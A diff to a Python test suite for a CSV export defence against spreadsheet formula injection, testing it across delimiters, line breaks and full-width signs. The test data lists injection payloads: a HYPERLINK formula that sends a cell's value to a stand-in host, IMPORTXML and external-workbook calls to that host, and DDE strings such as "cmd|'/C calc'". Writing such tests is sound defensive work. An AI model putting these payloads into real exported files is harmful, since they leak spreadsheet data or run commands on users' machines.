@@ -14,8 +14,24 @@ FORMULAS = (
     *("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", '=IMPORTXML("http://evil.example","//a")', "\x00=1"),
     *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!D2", "+cmd|'/C calc'!A0"),
 )  # fmt: skip
+HIDDEN_FORMULAS = (
+    *("=1+1", "@SUM(A1)", "+cmd|'/C calc'!A0", "- cmd|'/C calc'!A0", "\uff1d1", "\uff0b1", "=cmd|'/C calc'!A1"),
+    *("-(1+1)", "--1", "-'http://evil.example/[a.xlsx]b'!A1", '-"1"&A1'),
+)  # fmt: skip
 BEGINS_ONE = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
-KIND = ("fine = fine", "a-b", "1 - 2", "It is late ;-)", "x@example.org", "", "'quoted'", "ۓ", "ok; = is a sign later")
+KIND = (
+    "fine = fine",
+    "a-b",
+    "1 - 2",
+    "It is late ;-)",
+    "Late\n:-)\n;-)",
+    "one\n\n(two)\n3 - 2",
+    "x@example.org",
+    "",
+    "'quoted'",
+    "ۓ",
+    "ok; = is a sign later",
+)
 
 
 def is_run(cell: str) -> bool:
@@ -26,17 +42,25 @@ class TestCells:
     @pytest.mark.parametrize("formula", FORMULAS)
     def test_no_formula_begins_a_cell(self, formula: str) -> None:
         assert not is_run(safe_cell(formula))
-        assert plain_cell(safe_cell(formula)).replace("\t'", "\t") == formula
+        assert plain_cell(safe_cell(formula)) == formula
         assert safe_cell(safe_cell(formula)) == safe_cell(formula)
 
-    @pytest.mark.parametrize("formula", ["=1+1", "@SUM(A1)", "+cmd|'/C calc'!A0", "\uff1d1"])
-    @pytest.mark.parametrize("edge", [";", ";  ", "\t"])
+    @pytest.mark.parametrize("formula", HIDDEN_FORMULAS)
+    @pytest.mark.parametrize("edge", [";", ";  ", ';"', ';""', "\t", "\n", "\r", "\r\n", "\n\n ", '\n"'])
     def test_nor_where_another_country_sees_the_edge_of_a_cell(self, formula: str, edge: str) -> None:
         """With decimals in commas, spreadsheets cut at semicolons, whatever stands in quotation marks before."""
-        line = csv_file([["1", f"kind words{edge}{formula}", "2"]]).decode("utf-8-sig")
+        words = f"kind words{edge}{formula};"
+        line = csv_file([["1", words, "2"]]).decode("utf-8-sig")
         for separator in (",", ";", "\t"):
-            for cells in csv.reader(io.StringIO(line), delimiter=separator):
-                assert not [cell for cell in cells if is_run(cell)], separator
+            for cells in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
+                assert not [cell for cell in cells if is_run(cell.lstrip("\r\n"))], separator
+        assert plain_cell(safe_cell(words)) == words
+        assert safe_cell(safe_cell(words)) == safe_cell(words)
+
+    @pytest.mark.parametrize("edges", ["\t", ";", "\n", "\n- ", '; "', "\r\n\x00"])
+    def test_a_text_of_edges_alone_holds_nobody_up(self, edges: str) -> None:
+        text = edges * 100_000
+        assert plain_cell(safe_cell(text)) == text
 
     @pytest.mark.parametrize("text", KIND)
     def test_other_words_stay_as_they_are(self, text: str) -> None:
